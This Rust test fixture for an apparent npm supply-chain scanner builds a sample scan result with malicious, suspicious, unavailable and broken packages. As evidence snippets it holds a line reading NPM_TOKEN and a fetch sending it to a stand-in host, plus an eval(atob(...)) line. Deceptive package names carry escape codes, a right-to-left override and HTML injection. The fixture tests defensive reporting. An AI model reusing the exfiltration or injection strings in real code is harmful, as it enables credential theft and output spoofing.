//! One rich scan result for tests: a proof, a suspicion, gaps, and names that try to deceive.

use stockade_model::{
    Algorithm, Capabilities, Capability, Chain, Containment, Coverage, Evidence, Finding, Gap, GapKind,
    Integrity, Judgement, Level, Place, ProofBasis, ReleaseResult, Role, RuleStatus, ScanResult, ToolVersion,
    Trigger, Verdict, release::purl,
};

use crate::RuleHelp;

/// A release without findings.
pub(crate) fn release(purl: &str, verdict: Verdict) -> ReleaseResult {
    ReleaseResult {
        purl: purl.into(),
        integrity: None,
        from: format!(
            "node_modules/{}",
            purl.trim_start_matches("pkg:npm/").split('@').next().unwrap().replace("%40", "@")
        ),
        dependency_path: vec!["shop".into()],
        is_examined: true,
        judgement: Judgement {
            verdict,
            chains: vec![],
            findings: vec![],
            gaps: vec![],
            capabilities: Capabilities::new(),
        },
    }
}

/// A scan of `releases`.
pub(crate) fn scan_of(releases: Vec<ReleaseResult>) -> ScanResult {
    let gaps = releases.iter().map(|release| release.judgement.gaps.len()).sum();
    let examined = releases.iter().filter(|release| release.is_examined).count();
    ScanResult {
        schema: ScanResult::SCHEMA.into(),
        tool: ToolVersion {
            version: "0.1.0".into(),
            ruleset: format!("sha256:{}", "0123456789abcdef".repeat(4)),
        },
        containment: Containment::Full,
        coverage: Coverage { resolved: releases.len(), examined, gaps },
        gaps: vec![],
        releases,
    }
}

/// Evidence that marks `marked` in `line`, with `before` characters before the line's shown part.
fn evidence(file: &str, line: u32, text: &str, marked: &str, note: &str) -> Evidence {
    let text = format!("{}{text}", "\n".repeat(line as usize - 1));
    let start = text.find(marked).unwrap();
    Evidence::in_text(Place::in_text(file, &text, start, start + marked.len()), note, &text)
}

fn finding(rule: &str, trigger: Trigger, clause: &str, evidence: Vec<Evidence>) -> Finding {
    Finding {
        rule: rule.into(),
        title: rule.replace('-', " "),
        role: Role::Threat,
        severity: Level::High,
        specificity: Level::High,
        status: RuleStatus::Stable,
        trigger,
        technique: "T1552.001".into(),
        clause: clause.into(),
        evidence,
        proof: None,
    }
}

/// A theft over two files, proven by the bytes, with a hint outside any chain.
fn malicious() -> ReleaseResult {
    let theft = "`lib/setup.js:12` reads the npm token and `lib/send.js:3` sends it to `collector.invalid`";
    let known = "`lib/setup.js` has bytes known to be bad (campaign `inert-specimen`)";
    let findings = vec![
        finding(
            "npm-token-sent-to-network",
            Trigger::Install,
            theft,
            vec![
                evidence(
                    "lib/setup.js",
                    12,
                    "\tconst token = process.env.NPM_TOKEN;",
                    "process.env.NPM_TOKEN",
                    "reads the npm token",
                ),
                evidence("lib/setup.js", 13, "\tsend(token);", "token", "passes it on"),
                evidence(
                    "lib/send.js",
                    3,
                    "fetch(\"https://collector.invalid\", { body: token });",
                    "fetch",
                    "sends it to `collector.invalid`",
                ),
            ],
        ),
        Finding {
            proof: Some(ProofBasis::KnownBadBytes),
            evidence: vec![Evidence {
                place: Place::whole_file("lib/setup.js"),
                note: "bytes known to be bad".into(),
                snippet: String::new(),
                snippet_offset: 0,
            }],
            ..finding("known-bad-file", Trigger::Install, known, vec![])
        },
        Finding {
            specificity: Level::Low,
            ..finding(
                "host-name-read",
                Trigger::Call,
                "`index.js:1` reads the host name",
                vec![evidence("index.js", 1, "os.hostname()", "os.hostname", "reads the host name")],
            )
        },
    ];
    let mut release = release(&purl("token-mailer", Some("1.0.0")), Verdict::Malicious);
    release.integrity = Some(Integrity::of(Algorithm::Sha512, b"token-mailer"));
    release.dependency_path = vec!["shop".into(), "a".into(), "token-mailer".into()];
    release.judgement.chains = vec![
        Chain {
            story: format!("at install, {known}"),
            proof: true,
            trigger: Trigger::Install,
            techniques: vec!["T1552.001".into()],
            findings: vec![1],
        },
        Chain {
            story: format!("at install, {theft}"),
            proof: false,
            trigger: Trigger::Install,
            techniques: vec!["T1552.001".into()],
            findings: vec![0],
        },
    ];
    release.judgement.findings = findings;
    release.judgement.gaps = vec![
        Gap::new(GapKind::Unparsed, "does not parse as script or module").in_file("dist/x.js").harmless(),
    ];
    release.judgement.capabilities = Capabilities::from([
        (Trigger::Install, [Capability::Network, Capability::Process].into()),
        (Trigger::Import, [].into()),
    ]);
    release
}

/// A name, path, story and source that try to deceive every format; the source is one long line.
fn suspicious() -> ReleaseResult {
    let deceit = "\u{1b}[2K\u{202e}`]|<img src=x>@team #1 ``` www.evil.invalid";
    let line = format!(
        "{}eval(\u{202e}atob(\"{}\")) // ``` </details>{}",
        "x=1;".repeat(1_250),
        "QUJD".repeat(3),
        ";y=2".repeat(1_250)
    );
    let clause = format!("`bin/{deceit}.js:1` runs decoded text");
    let file = format!("bin/{deceit}.js");
    let mut release = release(&purl(&format!("shop-{deceit}"), Some("0.0.1-rc.1")), Verdict::Suspicious);
    release.from = ".".into();
    release.dependency_path = vec![format!("shop-{deceit}")];
    release.judgement.chains = vec![Chain {
        story: format!("when its command runs, {clause} (and 3 more places)"),
        proof: false,
        trigger: Trigger::Bin,
        techniques: vec!["T1027".into()],
        findings: vec![0],
    }];
    release.judgement.findings = vec![finding(
        "decoded-text-run",
        Trigger::Bin,
        &clause,
        vec![evidence(&file, 1, &line, "eval(", "runs decoded text")],
    )];
    release.judgement.gaps = ["a.wasm", "b.wasm", "c.wasm", "d.wasm"]
        .map(|file| Gap::new(GapKind::Unsupported, "WebAssembly is not examined").in_file(file))
        .to_vec();
    release
}

/// The scan all snapshots show.
pub(crate) fn scan() -> ScanResult {
    let unavailable = |name: &str| {
        let mut release = release(&purl(name, Some("2.0.0")), Verdict::Unknown);
        release.is_examined = false;
        release.judgement.gaps =
            vec![Gap::new(GapKind::Unavailable, "not in any cache, and --offline was given")];
        release
    };
    let mut broken = release(&purl("@scope/broken", Some("3.1.0")), Verdict::Unknown);
    broken.judgement.gaps =
        vec![Gap::new(GapKind::Unparsed, "does not parse | at `<b>`").in_file("index.js")];
    let mut result = scan_of(vec![
        suspicious(),
        malicious(),
        release(&purl("left-alone", Some("1.0.0")), Verdict::Clean),
        unavailable("far-away"),
        unavailable("further-away"),
        broken,
    ]);
    result.gaps = vec![
        Gap::new(GapKind::Lockfile, "has merge-conflict markers at line 7; resolve them")
            .in_file("yarn.lock"),
    ];
    result.coverage.gaps += result.gaps.len();
    result
}

/// Help for some of the rules that fired.
pub(crate) fn rules() -> Vec<RuleHelp> {
    ["npm-token-sent-to-network", "decoded-text-run"]
        .map(|id| RuleHelp {
            id: id.into(),
            title: id.replace('-', " "),
            page_markdown: format!("# {id}\n\nWhat it means.\n"),
            severity: Level::High,
            specificity: Level::High,
            role: Role::Threat,
            technique: "T1552.001".into(),
        })
        .to_vec()
}
